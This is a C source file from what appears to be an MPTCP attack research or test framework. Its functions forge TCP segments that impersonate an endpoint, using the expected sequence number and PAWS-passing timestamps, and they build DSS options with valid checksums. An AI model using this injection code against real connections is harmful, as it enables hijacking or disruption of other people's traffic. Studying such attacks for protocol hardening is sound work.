/* SPDX-License-Identifier: MIT */
/* attack/forge.c - segments that seem to come from an endpoint. They carry the sequence number that the receiver waits
 * for (RFC 5961 3: only that one is believed at once) and timestamps that pass PAWS (RFC 7323 5). Used by a_*.c. */
#include "attack/private.h"

int mpt_forge_raw(struct mpt_attack *a, const struct mpt_attack_view *v, const struct mpt_tcp_out *out,
                  const uint8_t *opt, const uint8_t *data, uint64_t at, uint64_t now)
{
    uint8_t octets[MPT_ATTACK_SEGMENT];
    struct mpt_attack_view w = *v;
    struct mpt_packet k = { .local = v->src, .remote = v->dst, .data = octets, .cap = sizeof octets };

    if (out->opt_len > 40 || out->len > sizeof octets - 60) {
        a->stats.failed++;
        return 0;
    }
    if (out->opt_len)
        memcpy(octets + MPT_TCP_HEADER, opt, out->opt_len);
    if (out->len)
        memcpy(octets + MPT_TCP_HEADER + out->opt_len, data, out->len);
    mpt_tcp_build(&k, out);
    w.tcp = octets;
    w.len = k.len;
    return mpt_attack_send(a, &w, at, now) == 0;
}

int mpt_forge_send(struct mpt_attack *a, const struct mpt_attack_flow *f, uint32_t dir, const struct attack_forge *g,
                   uint64_t now)
{
    const struct attack_side *s = &f->side[dir], *other = &f->side[!dir];
    struct mpt_attack_view v = { .src = f->end[dir], .dst = f->end[!dir], .path = f->path, .dir = dir };
    uint8_t opt[60], *p = opt;
    struct mpt_tcp_out out = { .seq = s->nxt, .len = g->len, .flags = (uint8_t)(g->flags | MPT_TCP_ACK) };

    if (s->has_ts)
        p = mpt_options_ts(p, s->ts_val, other->ts_val);
    memcpy(p, g->opt, g->opts);
    p = mpt_options_pad(opt, p + g->opts);
    out.opt_len = (uint32_t)(p - opt);
    out.ack = g->has_ack ? g->ack : s->ack;
    out.window = g->keep_window ? g->window : s->window;
    return mpt_forge_raw(a, &v, &out, opt, g->data, now, now);
}

/* The receiver widens 32 bits by itself (RFC 8684 3.3.1), so an attacker without keys needs no more. */
void mpt_forge_dss(struct attack_forge *g, const struct mpt_attack_flow *f, uint32_t dir, const struct mpt_dss *d)
{
    struct mpt_dss o = *d;
    uint64_t sum;

    if (!(o.flags & DSS_ACK) && f->side[dir].has_dack) {
        o.flags |= DSS_ACK;
        o.ack = (uint32_t)f->side[dir].dack;
    }
    if ((o.flags & DSS_MAP) && f->side[dir].checksum) {
        sum = g->len ? mpt_checksum_add(0, g->data, g->len) : 0;
        o.has_checksum = 1;
        o.checksum = mpt_checksum_dss(d->dsn, o.ssn, o.dll, sum);
    }
    g->opts = (uint8_t)(mpt_dss_build(g->opt, &o) - g->opt);
}
